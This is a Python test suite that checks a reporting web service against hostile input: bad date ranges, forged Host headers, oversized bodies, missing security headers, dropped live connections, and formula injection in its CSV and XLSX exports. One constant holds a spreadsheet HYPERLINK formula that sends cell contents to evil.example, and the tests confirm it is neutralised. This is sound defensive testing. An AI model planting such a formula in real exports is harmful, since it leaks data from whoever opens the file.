"""The reporting node against hostile input: what an attacker tried, answered with a 4xx that
says what is wrong (in the reader's language), never a 500, a blocked node or a live formula."""

from __future__ import annotations

import asyncio
import csv
import io
from decimal import Decimal
from typing import Any

import pytest
import uvicorn
from event_factories import programme_id
from openpyxl import load_workbook

A = "a" * 64
pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

PAGES = ("/", "/reports/monitoring", "/reports/monitoring.csv", "/reports/monitoring.xlsx")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'


async def _with_figures(node: Any, events: Any) -> None:
    await node.publish(events.enrol(A), events.service(A, hours="2"))
    await node.wait_for_events(2)


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("period", ["0000", "0000-Q1", "0000-01", "0001-01-01..9999-12-31"])
async def test_a_period_outside_the_years_of_any_partnership_is_refused_on_every_page(
    start_node: Any, events: Any, path: str, period: str
) -> None:
    async with start_node() as node:
        await _with_figures(node, events)
        polish = await node.http.get(path, params={"period": period})
        english = await node.http.get(path, params={"period": period, "lang": "en"})
    assert polish.status_code == english.status_code == 400
    assert "dzień musi przypadać między 1990-01-01 a 2100-12-31" in polish.text
    assert "the day must lie between 1990-01-01 and 2100-12-31" in english.text


@pytest.mark.parametrize("path", ["/api/v1/summary", "/api/v1/trend", "/api/v1/drilldown"])
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "0000-01-01"}, "from"),
        ({"from": "0001-01-01", "to": "9999-12-31"}, "from"),
        ({"to": "9999-12-31"}, "to"),
    ],
)
async def test_a_period_outside_the_years_of_any_partnership_is_refused_by_the_api(
    start_node: Any, events: Any, path: str, params: dict[str, str], field: str
) -> None:
    async with start_node() as node:
        answer = await node.http.get(
            path,
            params={**params, "figure": "clients.total"},
            headers={"Accept-Language": "en"},
        )
    assert answer.status_code == 422
    body = answer.json()
    assert body["detail"][0]["loc"] == [field]
    assert body["message"].startswith(f"{field}: ")


async def test_the_widest_period_answers_and_ingest_goes_on_meanwhile(
    start_node: Any, events: Any
) -> None:
    """0001–9999 held the node for 36 s; the widest period now allowed is answered while the
    node keeps ingesting (see docs/reporting.md for what it costs)."""
    async with start_node() as node:
        await _with_figures(node, events)
        widest = {"period": "1990-01-01..2100-12-31"}
        pages = [node.http.get(path, params=widest) for path in PAGES]
        more = asyncio.create_task(node.publish(events.service(A, hours="1.5")))
        answers = await asyncio.gather(*pages)
        await more
        summary = await node.wait_for_events(3)
    assert [answer.status_code for answer in answers] == [200] * len(PAGES)
    assert Decimal(summary["hours"]["total"]) == Decimal("3.5")


async def test_a_formula_in_a_programmes_name_is_text_in_the_workbook_and_the_csv(
    start_node: Any, events: Any
) -> None:
    """A programme named like a formula (its name is typed at a partner node) is shown as text;
    a formula typed as the programme filter is refused, as anything but a programme's id is."""
    async with start_node() as node:
        await node.publish(
            events.programme(name=HYPERLINK),
            events.enrol(A, programme=HYPERLINK),
            events.service(A, hours="2"),
        )
        await node.wait_for_events(3)
        chosen = {"programme": str(programme_id(HYPERLINK))}
        xlsx = await node.http.get("/reports/monitoring.xlsx", params=chosen)
        text = await node.http.get("/reports/monitoring.csv", params=chosen)
        typed = await node.http.get("/reports/monitoring.xlsx", params={"programme": HYPERLINK})
    assert xlsx.status_code == text.status_code == 200
    assert typed.status_code == 400
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(HYPERLINK in str(cell.value) for cell in cells), "the name is shown, as text"
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    rows = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
    fields = [field for row in rows for field in row]
    assert any(HYPERLINK in field for field in fields)
    assert not [field for field in fields if field.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("path", ["/", "/reports/monitoring", "/drilldown", "/nowhere", "/docs"])
async def test_every_html_answer_carries_the_security_headers(
    start_node: Any, events: Any, path: str
) -> None:
    async with start_node() as node:
        await _with_figures(node, events)
        answer = await node.http.get(path, params={"figure": "clients.total"})
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["referrer-policy"] == "no-referrer"
    if answer.headers["content-type"].startswith("text/html"):
        policy = answer.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy
        assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
        assert "<script>" not in answer.text or "'sha256-" in policy
        assert " on" + "click=" not in answer.text


async def test_a_host_the_node_is_not_known_by_gets_400(start_node: Any) -> None:
    async with start_node() as node:
        for path in ("/", "/api/v1/summary", "/healthz"):
            answer = await node.http.get(path, headers={"Host": "evil.example"})
            assert answer.status_code == 400, path
            assert answer.json()["detail"][0]["loc"] == ["Host"]
            assert "'evil.example'" in answer.json()["message"]
        assert (await node.http.get("/healthz", headers={"Host": "localhost:8100"})).is_success


async def test_a_body_larger_than_the_cap_gets_413_saying_so(start_node: Any) -> None:
    async with start_node(max_body_bytes=64 * 1024) as node:
        polish = await node.http.post("/api/v1/summary", content=b"x" * (65 * 1024))
        english = await node.http.post(
            "/api/v1/summary", content=b"x" * (65 * 1024), headers={"Accept-Language": "en"}
        )
    assert polish.status_code == english.status_code == 413
    assert "najwyżej 65536 bajtów" in polish.json()["message"]
    assert "at most 65536 bytes" in english.json()["message"]


async def test_live_updates_survive_two_hundred_dropped_connections(
    start_node: Any, events: Any
) -> None:
    """Dropping 50–200 open live-update connections froze ingest for good while `/healthz` said
    ok: here the node is served by uvicorn, 200 browsers open the live stream and vanish at once
    (a reset, no goodbye) while partners keep publishing, and ingest goes on."""
    async with start_node() as node:
        await _with_figures(node, events)
        server = uvicorn.Server(
            uvicorn.Config(node.app, host="127.0.0.1", port=0, lifespan="off", log_level="error")
        )
        serving = asyncio.create_task(server.serve())
        while not server.started:  # noqa: ASYNC110  (uvicorn offers no event to wait on)
            await asyncio.sleep(0.02)
        port = server.servers[0].sockets[0].getsockname()[1]
        credentials = "".join(
            f"{name}: {value}\r\n" for name, value in node.http.headers.items() if name != "host"
        )
        request = f"GET /events/live HTTP/1.1\r\nHost: localhost\r\n{credentials}\r\n".encode()
        browsers = []
        for _ in range(200):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(request)
            browsers.append((reader, writer))
        for reader, _ in browsers:
            await reader.readuntil(b"retry:")

        async def partners_publish(count: int, pause: float) -> None:
            for _ in range(count):
                await node.publish(events.service(A, hours="1"))
                await asyncio.sleep(pause)

        publishing = asyncio.create_task(partners_publish(20, 0.02))
        await asyncio.sleep(0.1)
        for _, writer in browsers:
            writer.transport.abort()
        await publishing
        await partners_publish(4, 0.3)  # batches committed one by one after the drop
        try:
            summary = await node.wait_for_events(26, within=15)
            health = await node.http.get("/healthz")
        finally:
            server.should_exit = True
            await serving
    assert Decimal(summary["hours"]["total"]) == 26
    assert health.status_code == 200


async def test_a_drilldown_answers_a_page_at_a_time(start_node: Any, events: Any) -> None:
    async with start_node() as node:
        people = [f"{number:064x}" for number in range(1, 8)]
        await node.publish(*(events.enrol(person) for person in people))
        await node.wait_for_events(len(people))
        first = await node.get("/api/v1/drilldown", figure="clients.total", limit="3")
        rest = await node.get("/api/v1/drilldown", figure="clients.total", offset="3")
        too_many = await node.http.get(
            "/api/v1/drilldown", params={"figure": "clients.total", "limit": "100000"}
        )
    assert (first["total"], len(first["pseudonyms"])) == (7, 3)
    assert first["pseudonyms"] + rest["pseudonyms"] == sorted(people)
    assert too_many.status_code == 422
    assert too_many.json()["detail"][0]["loc"] == ["limit"]
